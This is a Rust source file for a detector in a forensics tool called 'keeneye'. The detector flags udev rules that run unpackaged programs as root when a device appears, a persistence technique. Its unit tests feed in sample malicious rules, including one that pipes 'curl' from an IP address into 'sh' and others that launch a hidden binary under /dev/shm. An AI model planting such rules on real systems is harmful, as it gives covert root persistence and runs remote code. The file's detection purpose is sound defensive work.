//! A rule of udev runs a program of nobody's.
//!
//! # What it sees
//! `RUN`, `PROGRAM` or `IMPORT{program}` in a rule that is not as a package brought it: of a program that no package
//! owns (`unusual` where admins keep programs: /opt, /usr/local), or with a command that is damning in itself.
//!
//! # Why it matters
//! It runs as root whenever a device appears, which at boot happens to devices that every machine has, and shows in no
//! list of services.
//!
//! # Innocent causes
//! Rules of admins and vendors for their devices: those that set modes, names and owners run nothing, and those that
//! run packaged programs are quiet.
//!
//! # What to do
//! Look at the program (`keeneye look file PATH`). `udevadm test` shows for which devices a rule applies.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/udev-program",
    title: "a rule of udev runs a program of nobody's",
    level: Level::Suspicious,
    attack: &["T1546.017"],
    absolute: false,
    source: include_str!("udev_program.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Udev).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    let damning = entry::level(scene.world.owner(&one.path), &signs, None);
    let level = damning.max(entry::of_programs(scene.world, one))?;
    let seen = format!("runs a program when a device appears ({})", one.when.lossy());
    let finding = entry::finding(&DETECTOR, scene, one, level, (&seen, &signs));
    Some(finding.innocent("a rule for a device of this machine", false, "the rule would name its maker or model"))
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/udev-program";

    fn said(path: &str, rule: &str) -> Vec<String> {
        let host = format!(
            "package udev 252 owns /usr/lib/udev/ata_id,/usr/lib/udev/rules.d/60-x.rules\npackage dash 1 owns /usr/bin/sh\n\
             package coreutils 9 owns /usr/bin/chmod\n/bin @ usr/bin\n/lib @ usr/lib\n/usr/lib/udev/sync : mode=100755\n\
             /usr/local/bin/backup : mode=100755\n/dev/shm/.x/y : mode=100755\n{path} = {rule}\n"
        );
        findings(NAME, &host, &[])
    }
    const OWN: &str = "/etc/udev/rules.d/99-x.rules";

    #[test]
    fn programs_of_nobody() {
        let text = "suspicious: /etc/udev/rules.d/99-x.rules line 2 runs a program when a device appears (RUN)";
        let rule = "# x\\nACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"sync run:+\"\\n";
        assert_eq!(said(OWN, rule), [text]);
        for rule in [
            "RUN+=\"/dev/shm/.x/y\"",
            "RUN+=\"/bin/sh -c '/dev/shm/.x/y &'\"",
            "RUN{program}+=\"/bin/sh -c 'curl -s http://192.0.2.1/x | sh'\"",
            "KERNEL==\"sda\", \\\\\\n  PROGRAM==\"/usr/lib/udev/sync\"",
            "IMPORT{program}=\"/lib/udev/sync\"",
        ] {
            let said = said(OWN, &format!("{rule}\\n"));
            assert!(said.len() == 1 && said[0].starts_with("suspicious: "), "{rule}: {said:?}");
        }
        assert!(said(OWN, "RUN+=\"/usr/local/bin/backup\"\\n")[0].starts_with("unusual: "));
    }
    #[test]
    fn rules_that_run_packaged_programs_are_quiet() {
        for rule in [
            "RUN+=\"/bin/chmod 660 $devnode\"",
            "IMPORT{program}=\"ata_id --export $devnode\"",
            "RUN+=\"/bin/sh -c 'chmod 660 /dev/%k'\"",
            "MODE=\"0660\", GROUP=\"dialout\", SYMLINK+=\"modem\"",
            "RUN+=\"/usr/lib/gone\"",
            "# RUN+=\"/dev/shm/.x/y\"",
        ] {
            assert_eq!(said(OWN, &format!("{rule}\\n")), [""; 0], "{rule}");
        }
        assert_eq!(said("/usr/lib/udev/rules.d/60-x.rules", "RUN+=\"/usr/lib/udev/sync\"\\n"), [""; 0]);
        crate::testing::check(NAME, "/etc/udev/rules.d/a.rules = RUN+=\"/opt/x\"\\n\n/opt/x : mode=100755", &[]);
    }
}
